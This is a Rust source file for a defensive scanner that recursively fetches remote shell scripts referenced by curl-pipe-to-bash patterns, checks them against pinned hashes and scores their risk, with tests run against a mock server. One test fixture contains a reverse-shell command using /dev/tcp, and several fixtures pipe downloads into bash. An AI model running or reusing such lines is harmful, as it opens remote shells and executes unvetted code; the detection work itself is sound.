use anyhow::{Context, Result};
use futures_util::future::{join_all, BoxFuture};
use futures_util::FutureExt;
use serde::Serialize;
use std::collections::{BTreeSet, HashSet};
use std::sync::Arc;

use crate::analysis::RiskScore;
use crate::bom::BillOfMaterials;
use crate::extract::extract_references;
use crate::fetch::{FetchOutcome, Fetcher};
use crate::narrator::{ChildSummary, NarrativeRequest, Narrator, VerificationContext};
use crate::registry::KnownScriptRegistry;
use crate::static_analysis::static_analyze;
use crate::trust::{classify, TrustRecord, TrustStatus};
use crate::validate::{validate_reference, ValidatedReference};

// ============================================================================
// Recursive Assessment
// ============================================================================

pub(crate) const DEFAULT_MAX_DEPTH: usize = 3;

/// Floor applied when a direct reference could not be verified.
const UNVERIFIED_FLOOR: RiskScore = RiskScore::new(6);
/// Floor applied when a direct reference could not be fetched.
const ERROR_FLOOR: RiskScore = RiskScore::new(7);

/// Child narratives folded into a parent report are cut at this many chars.
const MAX_CHILD_NARRATIVE_CHARS: usize = 4000;

/// One script under analysis. The root is depth 0.
#[derive(Debug, Clone)]
pub(crate) struct ScriptDocument {
    pub(crate) source: String,
    pub(crate) content: String,
    pub(crate) depth: usize,
}

impl ScriptDocument {
    pub(crate) fn root(source: impl Into<String>, content: impl Into<String>) -> Self {
        Self {
            source: source.into(),
            content: content.into(),
            depth: 0,
        }
    }

    fn child(&self, url: &str, content: String) -> Self {
        Self {
            source: url.to_string(),
            content,
            depth: self.depth + 1,
        }
    }
}

#[derive(Debug, Clone, Serialize)]
#[serde(rename_all = "camelCase")]
pub(crate) struct AnalysisReport {
    pub(crate) risk_score: RiskScore,
    pub(crate) report: String,
    pub(crate) bill_of_materials: BillOfMaterials,
}

/// A direct child: its trust record, and its analysis if it was fetched.
struct ChildOutcome {
    record: TrustRecord,
    analysis: Option<ChildAnalysis>,
}

struct ChildAnalysis {
    report: AnalysisReport,
    truncated: bool,
}

/// Drives extract, validate, fetch, classify, recurse, synthesize for a
/// document and its fetched sub-scripts.
pub(crate) struct Analyzer<N> {
    fetcher: Fetcher,
    registry: Arc<KnownScriptRegistry>,
    narrator: N,
    max_depth: usize,
}

impl<N: Narrator> Analyzer<N> {
    pub(crate) fn new(
        fetcher: Fetcher,
        registry: Arc<KnownScriptRegistry>,
        narrator: N,
        max_depth: usize,
    ) -> Self {
        Self {
            fetcher,
            registry,
            narrator,
            max_depth,
        }
    }

    /// Analyze a root script. Fetch failures become trust records; only a
    /// narrator failure is an `Err`.
    pub(crate) async fn analyze(&self, document: ScriptDocument) -> Result<AnalysisReport> {
        self.analyze_document(document).await
    }

    fn analyze_document(&self, document: ScriptDocument) -> BoxFuture<'_, Result<AnalysisReport>> {
        async move {
            let depth = document.depth;
            tracing::debug!(depth, source = %document.source, "extracting");
            let extracted = extract_references(&document.content);

            tracing::debug!(depth, candidates = extracted.len(), "validating");
            let validated: BTreeSet<ValidatedReference> = extracted
                .iter()
                .filter_map(|r| {
                    tracing::debug!(line = r.line, idiom = ?r.idiom, candidate = %r.raw, "candidate");
                    validate_reference(&r.raw)
                })
                .collect();

            tracing::debug!(depth, references = validated.len(), "fetching");
            let outcomes = self.fetcher.fetch_all(validated).await;

            tracing::debug!(depth, "classifying");
            let records: Vec<TrustRecord> = outcomes
                .iter()
                .map(|o| classify(o, &self.registry))
                .collect();

            let children = self.recurse(&document, outcomes, &records).await?;

            tracing::debug!(depth, children = children.len(), "synthesizing");
            let report = self.synthesize(&document, records, children).await?;
            tracing::debug!(depth, score = report.risk_score.value(), "done");
            Ok(report)
        }
        .boxed()
    }

    /// Analyze every successfully fetched child concurrently.
    async fn recurse(
        &self,
        document: &ScriptDocument,
        outcomes: Vec<FetchOutcome>,
        records: &[TrustRecord],
    ) -> Result<Vec<ChildOutcome>> {
        let futures = outcomes
            .into_iter()
            .zip(records.iter().cloned())
            .map(|(outcome, record)| self.analyze_child(document, outcome, record));
        join_all(futures).await.into_iter().collect()
    }

    /// Children past the depth limit get a synthetic maximum-risk report.
    async fn analyze_child(
        &self,
        parent: &ScriptDocument,
        outcome: FetchOutcome,
        record: TrustRecord,
    ) -> Result<ChildOutcome> {
        let fetched = match outcome.result {
            Ok(fetched) => fetched,
            Err(_) => {
                return Ok(ChildOutcome {
                    record,
                    analysis: None,
                })
            }
        };

        let analysis = if parent.depth + 1 > self.max_depth {
            tracing::warn!(url = %outcome.url, max_depth = self.max_depth, "recursion depth limit reached");
            ChildAnalysis {
                report: depth_limit_report(&outcome.url, self.max_depth),
                truncated: true,
            }
        } else {
            let child = parent.child(&outcome.url, fetched.content);
            ChildAnalysis {
                report: self.analyze_document(child).await?,
                truncated: false,
            }
        };

        Ok(ChildOutcome {
            record,
            analysis: Some(analysis),
        })
    }

    async fn synthesize(
        &self,
        document: &ScriptDocument,
        records: Vec<TrustRecord>,
        children: Vec<ChildOutcome>,
    ) -> Result<AnalysisReport> {
        let static_report = static_analyze(&document.content);
        let verification = VerificationContext {
            records: records.clone(),
            children: children
                .iter()
                .filter_map(|c| {
                    c.analysis.as_ref().map(|a| ChildSummary {
                        url: c.record.url.clone(),
                        risk_score: a.report.risk_score,
                        truncated: a.truncated,
                    })
                })
                .collect(),
        };

        let narrative = self
            .narrator
            .narrate(&NarrativeRequest {
                source: &document.source,
                depth: document.depth,
                script: &document.content,
                static_report: &static_report,
                verification: &verification,
            })
            .await
            .with_context(|| {
                format!(
                    "Report synthesis failed for {} (depth {})",
                    document.source, document.depth
                )
            })?;

        let floor = trust_floor(&records);
        let child_max = children
            .iter()
            .filter_map(|c| c.analysis.as_ref().map(|a| a.report.risk_score))
            .max();
        let risk_score = [Some(narrative.risk_score), floor, child_max]
            .into_iter()
            .flatten()
            .max()
            .unwrap_or(RiskScore::MIN);

        if risk_score > narrative.risk_score {
            tracing::debug!(
                depth = document.depth,
                narrator = narrative.risk_score.value(),
                final_score = risk_score.value(),
                "raised by remote script signals"
            );
        }

        let report = compose_report(&narrative.report, narrative.risk_score, risk_score, &children);

        let mut remote_scripts = records;
        let mut binaries = narrative.external_binaries;
        for child in &children {
            if let Some(analysis) = &child.analysis {
                let bom = &analysis.report.bill_of_materials;
                remote_scripts.extend(bom.remote_scripts.iter().cloned());
                binaries.extend(bom.external_binaries.iter().cloned());
            }
        }

        Ok(AnalysisReport {
            risk_score,
            report,
            bill_of_materials: BillOfMaterials::aggregate(dedup_by_url(remote_scripts), binaries),
        })
    }
}

/// Unverified or unfetchable direct references raise the score on their own.
fn trust_floor(records: &[TrustRecord]) -> Option<RiskScore> {
    records
        .iter()
        .filter_map(|r| match r.status {
            TrustStatus::Verified => None,
            TrustStatus::Unverified => Some(UNVERIFIED_FLOOR),
            TrustStatus::Error => Some(ERROR_FLOOR),
        })
        .max()
}

fn depth_limit_report(url: &str, max_depth: usize) -> AnalysisReport {
    AnalysisReport {
        risk_score: RiskScore::MAX,
        report: format!(
            "Analysis of {} stopped: maximum recursion depth {} reached. \
             Deeply nested or cyclic chains of remote scripts are treated as maximum risk.",
            url, max_depth
        ),
        bill_of_materials: BillOfMaterials::default(),
    }
}

/// Keep the first (shallowest) record per URL.
fn dedup_by_url(records: Vec<TrustRecord>) -> Vec<TrustRecord> {
    let mut seen = HashSet::new();
    records
        .into_iter()
        .filter(|r| seen.insert(r.url.clone()))
        .collect()
}

fn compose_report(
    narrative: &str,
    narrator_score: RiskScore,
    final_score: RiskScore,
    children: &[ChildOutcome],
) -> String {
    let mut out = narrative.trim_end().to_string();
    if children.is_empty() {
        return out;
    }

    out.push_str("\n\nRemote scripts:\n");
    for child in children {
        let record = &child.record;
        out.push_str(&format!("- {} [{}]", record.url, record.status));
        if let Some(detail) = &record.detail {
            out.push_str(&format!(" {}", detail));
        }
        if let Some(analysis) = &child.analysis {
            out.push_str(&format!(" risk {}\n", analysis.report.risk_score));
            let text = truncate_chars(&analysis.report.report, MAX_CHILD_NARRATIVE_CHARS);
            for line in text.lines() {
                out.push_str("    ");
                out.push_str(line);
                out.push('\n');
            }
        } else {
            out.push('\n');
        }
    }

    if final_score > narrator_score {
        out.push_str(&format!(
            "\nRisk raised from {} to {} by remote script verification.\n",
            narrator_score, final_score
        ));
    }
    out
}

fn truncate_chars(text: &str, max: usize) -> String {
    match text.char_indices().nth(max) {
        Some((idx, _)) => format!("{}\n[truncated]", &text[..idx]),
        None => text.to_string(),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::fetch::sha256_hex;
    use crate::fetch::tests::test_fetcher;
    use crate::narrator::{Narrative, StaticNarrator};
    use crate::registry::KnownScript;
    use std::sync::Mutex;
    use wiremock::matchers::{method, path};
    use wiremock::{Mock, MockServer, ResponseTemplate};

    /// Returns a fixed score and records what it was asked.
    struct FixedNarrator {
        score: i64,
        fail_at_depth: Option<usize>,
        seen: Mutex<Vec<(usize, usize)>>,
    }

    impl FixedNarrator {
        fn new(score: i64) -> Self {
            Self {
                score,
                fail_at_depth: None,
                seen: Mutex::new(Vec::new()),
            }
        }
    }

    impl Narrator for FixedNarrator {
        async fn narrate(&self, request: &NarrativeRequest<'_>) -> Result<Narrative> {
            self.seen
                .lock()
                .unwrap()
                .push((request.depth, request.verification.records.len()));
            if self.fail_at_depth == Some(request.depth) {
                anyhow::bail!("narrator unavailable");
            }
            Ok(Narrative {
                risk_score: RiskScore::new(self.score),
                report: format!("narrative for {}", request.source),
                external_binaries: vec![format!("bin{}", request.depth)],
            })
        }
    }

    fn analyzer<N: Narrator>(narrator: N, registry: KnownScriptRegistry) -> Analyzer<N> {
        Analyzer::new(test_fetcher(5), Arc::new(registry), narrator, DEFAULT_MAX_DEPTH)
    }

    fn pinned(url: &str, body: &str) -> KnownScriptRegistry {
        KnownScriptRegistry::from_entries(vec![KnownScript {
            url: url.to_string(),
            hash: sha256_hex(body.as_bytes()),
        }])
        .unwrap()
    }

    async fn serve(server: &MockServer, route: &str, body: &str) {
        Mock::given(method("GET"))
            .and(path(route))
            .respond_with(ResponseTemplate::new(200).set_body_string(body))
            .mount(server)
            .await;
    }

    #[tokio::test]
    async fn test_no_idiom_gives_empty_bom() {
        let analyzer = analyzer(FixedNarrator::new(2), KnownScriptRegistry::default());
        let report = analyzer
            .analyze(ScriptDocument::root("local", "#!/bin/sh\necho hello\n"))
            .await
            .unwrap();
        assert!(report.bill_of_materials.remote_scripts.is_empty());
        assert_eq!(report.risk_score.value(), 2);
        assert_eq!(report.report, "narrative for local");
    }

    #[tokio::test]
    async fn test_verified_reference() {
        let server = MockServer::start().await;
        let body = "echo installing\n";
        serve(&server, "/install.sh", body).await;
        let url = format!("{}/install.sh", server.uri());

        let analyzer = analyzer(FixedNarrator::new(2), pinned(&url, body));
        let report = analyzer
            .analyze(ScriptDocument::root("root", format!("curl -fsSL {} | bash\n", url)))
            .await
            .unwrap();

        let scripts = &report.bill_of_materials.remote_scripts;
        assert_eq!(scripts.len(), 1);
        assert_eq!(scripts[0].status, TrustStatus::Verified);
        assert_eq!(report.risk_score.value(), 2);
        let json = serde_json::to_value(&report).unwrap();
        assert_eq!(json["billOfMaterials"]["remoteScripts"][0]["status"], "verified");
        assert!(json["billOfMaterials"]["remoteScripts"][0].get("detail").is_none());
    }

    #[tokio::test]
    async fn test_mismatched_digest_is_unverified_and_raises_score() {
        let server = MockServer::start().await;
        serve(&server, "/install.sh", "echo tampered\n").await;
        let url = format!("{}/install.sh", server.uri());

        let analyzer = analyzer(FixedNarrator::new(2), pinned(&url, "echo original\n"));
        let report = analyzer
            .analyze(ScriptDocument::root("root", format!("curl -fsSL {} | bash\n", url)))
            .await
            .unwrap();

        assert_eq!(report.bill_of_materials.remote_scripts[0].status, TrustStatus::Unverified);
        assert_eq!(report.risk_score, UNVERIFIED_FLOOR);
        assert!(report.report.contains("Risk raised from 2/10 to 6/10"));
    }

    #[tokio::test]
    async fn test_http_404_is_error_record() {
        let server = MockServer::start().await;
        Mock::given(method("GET"))
            .respond_with(ResponseTemplate::new(404))
            .mount(&server)
            .await;
        let url = format!("{}/missing.sh", server.uri());

        let narrator = FixedNarrator::new(1);
        let analyzer = analyzer(narrator, KnownScriptRegistry::default());
        let report = analyzer
            .analyze(ScriptDocument::root("root", format!("bash <(curl -s {})\n", url)))
            .await
            .unwrap();

        let record = &report.bill_of_materials.remote_scripts[0];
        assert_eq!(record.status, TrustStatus::Error);
        assert!(record.detail.as_deref().unwrap().contains("404"));
        assert_eq!(report.risk_score, ERROR_FLOOR);
        // Failed fetches are not recursed into
        assert_eq!(*analyzer.narrator.seen.lock().unwrap(), vec![(0, 1)]);
    }

    #[tokio::test]
    async fn test_duplicate_reference_fetched_once() {
        let server = MockServer::start().await;
        Mock::given(method("GET"))
            .and(path("/setup.sh"))
            .respond_with(ResponseTemplate::new(200).set_body_string("echo ok\n"))
            .expect(1)
            .mount(&server)
            .await;
        let url = format!("{}/setup.sh", server.uri());
        let script = format!("curl -s {url} | sh\neval \"$(curl -s {url})\"\n");

        let analyzer = analyzer(FixedNarrator::new(1), KnownScriptRegistry::default());
        let report = analyzer.analyze(ScriptDocument::root("root", script)).await.unwrap();
        assert_eq!(report.bill_of_materials.remote_scripts.len(), 1);
    }

    #[tokio::test]
    async fn test_shell_variable_reference_is_never_fetched() {
        let server = MockServer::start().await;
        Mock::given(method("GET"))
            .respond_with(ResponseTemplate::new(200))
            .expect(0)
            .mount(&server)
            .await;

        let analyzer = analyzer(FixedNarrator::new(1), KnownScriptRegistry::default());
        let script = format!(
            "REPO_URL={}\ncurl ${{REPO_URL}}/setup.sh | bash\ncurl {}/${{BRANCH}}/x.sh | sh\n",
            server.uri(),
            server.uri()
        );
        let report = analyzer.analyze(ScriptDocument::root("root", script)).await.unwrap();
        assert!(report.bill_of_materials.remote_scripts.is_empty());
    }

    #[tokio::test]
    async fn test_two_cycle_terminates_at_depth_limit() {
        let server = MockServer::start().await;
        let a = format!("{}/a.sh", server.uri());
        let b = format!("{}/b.sh", server.uri());
        // No memoisation: each hop refetches
        Mock::given(method("GET"))
            .and(path("/a.sh"))
            .respond_with(ResponseTemplate::new(200).set_body_string(format!("source <(curl -s {})\n", b)))
            .expect(2)
            .mount(&server)
            .await;
        Mock::given(method("GET"))
            .and(path("/b.sh"))
            .respond_with(ResponseTemplate::new(200).set_body_string(format!("source <(curl -s {})\n", a)))
            .expect(2)
            .mount(&server)
            .await;

        let analyzer = analyzer(FixedNarrator::new(1), KnownScriptRegistry::default());
        let report = analyzer
            .analyze(ScriptDocument::root("root", format!("curl -s {} | bash\n", a)))
            .await
            .unwrap();

        assert_eq!(report.risk_score, RiskScore::MAX);
        assert!(report.report.contains("maximum recursion depth 3 reached"));
        let urls: Vec<&str> = report
            .bill_of_materials
            .remote_scripts
            .iter()
            .map(|r| r.url.as_str())
            .collect();
        assert_eq!(urls, vec![a.as_str(), b.as_str()]);

        let mut depths: Vec<usize> = analyzer.narrator.seen.lock().unwrap().iter().map(|s| s.0).collect();
        depths.sort();
        assert_eq!(depths, vec![0, 1, 2, 3]);
    }

    #[tokio::test]
    async fn test_parent_never_below_child() {
        let server = MockServer::start().await;
        serve(&server, "/bad.sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n").await;
        let url = format!("{}/bad.sh", server.uri());

        // Registry pins the bad script so the trust floor does not apply.
        let body = "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n";
        let analyzer = analyzer(StaticNarrator, pinned(&url, body));
        let report = analyzer
            .analyze(ScriptDocument::root("root", format!("curl -s {} | bash\n", url)))
            .await
            .unwrap();

        assert_eq!(report.bill_of_materials.remote_scripts[0].status, TrustStatus::Verified);
        assert!(report.risk_score >= StaticNarrator::score(&static_analyze(body)));
        assert!(report.report.contains("Remote scripts:"));
        assert!(report.report.contains(&url));
    }

    #[tokio::test]
    async fn test_child_records_and_binaries_are_accumulated() {
        let server = MockServer::start().await;
        let leaf = format!("{}/leaf.sh", server.uri());
        serve(&server, "/mid.sh", &format!("curl -s {} | sh\n", leaf)).await;
        serve(&server, "/leaf.sh", "echo leaf\n").await;
        let mid = format!("{}/mid.sh", server.uri());

        let analyzer = analyzer(FixedNarrator::new(1), KnownScriptRegistry::default());
        let report = analyzer
            .analyze(ScriptDocument::root("root", format!("curl -s {} | bash\n", mid)))
            .await
            .unwrap();

        let bom = &report.bill_of_materials;
        let urls: Vec<&str> = bom.remote_scripts.iter().map(|r| r.url.as_str()).collect();
        assert_eq!(urls, vec![mid.as_str(), leaf.as_str()]);
        assert_eq!(bom.external_binaries, vec!["bin0", "bin1", "bin2"]);
    }

    #[tokio::test]
    async fn test_narrator_failure_propagates() {
        let server = MockServer::start().await;
        serve(&server, "/child.sh", "echo child\n").await;
        let url = format!("{}/child.sh", server.uri());

        let mut narrator = FixedNarrator::new(1);
        narrator.fail_at_depth = Some(1);
        let analyzer = analyzer(narrator, KnownScriptRegistry::default());
        let err = analyzer
            .analyze(ScriptDocument::root("root", format!("curl -s {} | bash\n", url)))
            .await
            .unwrap_err();
        assert!(format!("{:#}", err).contains("depth 1"));
        assert!(format!("{:#}", err).contains("narrator unavailable"));
    }

    #[test]
    fn test_trust_floor() {
        let rec = |status| TrustRecord {
            url: "https://a.example/x.sh".to_string(),
            status,
            detail: None,
        };
        assert_eq!(trust_floor(&[]), None);
        assert_eq!(trust_floor(&[rec(TrustStatus::Verified)]), None);
        assert_eq!(trust_floor(&[rec(TrustStatus::Unverified)]), Some(UNVERIFIED_FLOOR));
        assert_eq!(
            trust_floor(&[rec(TrustStatus::Unverified), rec(TrustStatus::Error)]),
            Some(ERROR_FLOOR)
        );
    }

    #[test]
    fn test_truncate_chars() {
        assert_eq!(truncate_chars("short", 10), "short");
        let cut = truncate_chars(&"é".repeat(20), 5);
        assert!(cut.starts_with("ééééé\n"));
        assert!(cut.ends_with("[truncated]"));
    }
}
